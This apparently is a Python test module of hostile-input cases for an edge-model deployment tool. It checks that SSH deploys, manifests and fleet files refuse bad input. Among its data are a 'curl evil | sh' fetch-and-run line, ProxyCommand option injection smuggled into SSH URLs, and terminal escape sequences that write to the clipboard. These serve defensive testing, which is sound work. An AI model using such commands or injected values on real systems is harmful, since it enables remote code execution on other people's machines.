"""The ``boards`` class of tools/hostile_inputs.py (issue #25): the path from the build host to a board, tried as an
attacker and as a careless operator would, against a real OpenSSH server on loopback (tools/loopback_sshd.py).

Each case gets the case folder (``c.folder``), the LeNet-5 conversion folder (``c.artifact``) and the board
(``c.board``: an SSHServer). Inputs a case needs are made by its argv function, before the snapshot of the folder.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

B = "boards"
EDGECNN = str(Path(sys.executable).parent / "edgecnn")


def on(c: Any, *, edgecnn: str = EDGECNN) -> list[str]:
    return ["--on", c.board.url, "--ssh-config", str(c.board.config), "--remote-edgecnn", edgecnn,
            "--remote-cache", str(c.folder / "board" / "cache")]


def _keys(folder: Path) -> tuple[Path, Path]:
    subprocess.run(["openssl", "ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", str(folder / "k.pem")],
                   check=True, capture_output=True)
    subprocess.run(["openssl", "ec", "-in", str(folder / "k.pem"), "-pubout", "-out", str(folder / "k.pub")],
                   check=True, capture_output=True)
    return folder / "k.pem", folder / "k.pub"


def _copy(c: Any, name: str = "art") -> Path:
    dst = c.folder / name
    shutil.copytree(c.artifact, dst)
    return dst


def _signed(c: Any) -> tuple[Path, Path]:
    art = _copy(c)
    private, public = _keys(c.folder)
    subprocess.run([sys.executable, "-m", "edgecnn", "sign", str(art), "--key", str(private)], check=True, capture_output=True)
    return art, public


def _with(path: Path, text: str) -> Path:
    path.write_text(text)
    return path


def _deploy(c: Any, art: Path | str, *extra: str) -> list[str]:
    return ["deploy", str(art), "--to", str(c.folder / "board" / "app"), *extra, *on(c)]


def _link_in(c: Any) -> list[str]:
    art = _copy(c)
    (art / "keys").symlink_to(Path.home())
    return _deploy(c, art)


def _unlisted(c: Any) -> list[str]:
    art, public = _signed(c)
    (art / "extra.sh").write_text("curl evil | sh\n")
    return _deploy(c, art, "--trust-key", str(public))


def _escapes(c: Any) -> list[str]:
    from edgecnn import __version__

    fake = _with(
        c.folder / "evil-edgecnn",
        f'#!/bin/sh\n[ "$1" = --version ] && {{ echo "edgecnn {__version__}"; exit 0; }}\n'
        r"""printf 'error: \033]52;c;ZXZpbA==\007clipboard\033]0;title\007\033[2J gone\n' >&2; exit 1""" + "\n",
    )
    fake.chmod(0o755)
    return ["profile", str(c.artifact / "tflite-fp32"), *on(c, edgecnn=str(fake))]


def _fleet(c: Any, body: str) -> list[str]:
    return ["fleet", "--fleet-file", str(_with(c.folder / "fleet.yaml", body))]


def _manifest(c: Any, change: Any) -> list[str]:
    """A manifest edited (and resealed: anyone can compute the digest) to hold a field of the wrong type."""
    from edgecnn.manifest import _digest, _field_digests

    art = _copy(c)
    path = art / "tflite-fp32" / "edgecnn.json"
    data = json.loads(path.read_text())
    change(data)
    body = {k: v for k, v in data.items() if k != "integrity"}
    data["integrity"] = {"digest": _digest(body), "fields": _field_digests(body)}
    path.write_text(json.dumps(data))
    return ["verify", str(art / "tflite-fp32"), "--run"]


def _deep_manifest(c: Any) -> list[str]:
    art = _copy(c)
    (art / "tflite-fp32" / "edgecnn.json").write_text("[" * 100000 + "]" * 100000)
    return ["verify", str(art / "tflite-fp32")]


def _profile_result(c: Any, change: Any) -> list[str]:
    result = {"schema": "edgecnn.profile", "runtime": {"runtime": "litert"}, "threads": 2, "model": {"precision": "fp32"},
              "system": {"cpu_model": "Cortex-A72"}, "invoke": {"p50": 1.0, "p90": 1.2, "fps": 900.0},
              "fresh_input": {"p50": 1.1}, "memory": {"peak_rss_mb": 50.0}, "device_profile": "rpi4"}
    change(result)
    return ["report", str(_with(c.folder / "p.json", json.dumps(result))), "--out", str(c.folder / "r.png")]


def _fifo(c: Any) -> list[str]:
    os.mkfifo(c.folder / "pipe")
    return ["classify", str(c.artifact), "--runtime", "litert", "--source", "synthetic:", "--sink", f"jsonl:{c.folder / 'pipe'}"]


def _force(c: Any) -> list[str]:
    out = c.folder / "thesis"
    out.mkdir()
    (out / "chapter1.tex").write_text("my thesis\n")
    (out / "figures").mkdir()
    return ["convert", str(c.run), "--device", "host", "--precision", "tflite/fp32", "--out", str(out), "--force"]


def _case(name: str, argv: Any, expect: str, **kw: Any) -> dict[str, Any]:
    return {"name": name, "klass": B, "argv": argv, "expect": expect, **kw}


CASES = [
    _case("private key as --trust-key", lambda c: _deploy(c, c.artifact, "--trust-key", str(_keys(c.folder)[0])),
          r"is a PRIVATE key: give the public half; nothing was read or copied", ci=True),
    _case("ssh private key as --trust-key",
          lambda c: _deploy(c, c.artifact, "--trust-key", str(_with(c.folder / "id_ed25519",
                            "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n"))),
          r"is a PRIVATE key"),
    _case("certificate as --trust-key",
          lambda c: _deploy(c, c.artifact, "--trust-key", str(_with(c.folder / "c.pem",
                            "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"))),
          r"is a certificate, not a public key"),
    _case("ssh public key as --trust-key",
          lambda c: _deploy(c, c.artifact, "--trust-key", str(_with(c.folder / "id.pub", "ssh-ed25519 AAAA me@host\n"))),
          r"is an SSH public key, not a signing key"),
    _case("empty --trust-key", lambda c: _deploy(c, c.artifact, "--trust-key", str(_with(c.folder / "e.pub", ""))), r"is empty"),
    _case("folder as --trust-key", lambda c: _deploy(c, c.artifact, "--trust-key", str(c.folder)), r"is a folder, not a key file"),
    _case("link in the release", _link_in, r"holds what no artifact may: keys \(a symbolic link\)", ci=True),
    _case("file the signature lacks", _unlisted, r"deploy refused before any copy: .*added after signing: extra\.sh"),
    _case("option in the user of --on", lambda c: ["profile", str(c.artifact), "--on", "ssh://-oProxyCommand=id@h"],
          r"is not a user name", ci=True),
    _case("option in the host of --on", lambda c: ["profile", str(c.artifact), "--on", "ssh://pi@-oProxyCommand=id"],
          r"is not a host name or address"),
    _case("password in --on", lambda c: ["profile", str(c.artifact), "--on", "ssh://pi:SECRET@board"],
          r"a password in the URL is refused", forbid="SECRET"),
    _case("relative --to", lambda c: ["deploy", str(c.artifact), "--to", "models", *on(c)], r"give an absolute folder on the board"),
    _case("rollback with nothing to go back to", lambda c: ["deploy", "--rollback", "--to", str(_mk(c.folder / "board" / "app")), *on(c)],
          r"nothing to roll back to", creates=("board",)),
    _case("board answers with terminal escapes", _escapes, r"clipboard.*gone", forbid="[\x1b\x07\x9b]", creates=("board",), ci=True),
    _case("fleet.yaml field of the wrong type", lambda c: _fleet(c, "boards:\n  pi:\n    url: ssh://pi@h\n    device: [1, 2]\n"),
          r"boards\.pi\.device must be a string; received a list"),
    _case("fleet.yaml boards is a list", lambda c: _fleet(c, "boards:\n  - ssh://pi@h\n"), r"boards: a mapping of board names"),
    _case("manifest field of the wrong type", lambda c: _manifest(c, lambda d: d.update(self_check="yes")),
          r"field 'self_check' must be an object or null; received a string"),
    _case("manifest number as text", lambda c: _manifest(c, lambda d: d["self_check"].update(tolerance="0.1")),
          r"self_check\.tolerance must be a number; received a string"),
    _case("manifest nested 100,000 deep", _deep_manifest, r"the JSON is nested too deeply to read"),
    _case("profile result of the wrong shape", lambda c: _profile_result(c, lambda r: r.update(invoke=[1, 2])),
          r"p\.json: invoke must be an object; received a list"),
    _case("rich markup in a CPU name", lambda c: _profile_result(c, lambda r: r["system"].update(cpu_model="[blink]ARM[/blink]")),
          r"\[blink\]ARM", rc=(0,), creates=("r.png",)),
    _case("camera password in an error", lambda c: ["classify", str(c.artifact), "--runtime", "litert", "--source",
                                                    f"rtsp://admin:SECRET@127.0.0.1:{c.servers.closed_port}/cam"],
          r"rtsp://admin:\*\*\*@127\.0\.0\.1", forbid="SECRET", ci=True),
    _case("jsonl sink is a FIFO with no reader", _fifo, r"it is a FIFO with no reader", timeout=10, ci=True),
    _case("convert --force over a user's folder", _force, r"holds what no edgecnn conversion wrote: chapter1\.tex, figures/",
          timeout=60, ci=True),
]


def _mk(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    return path
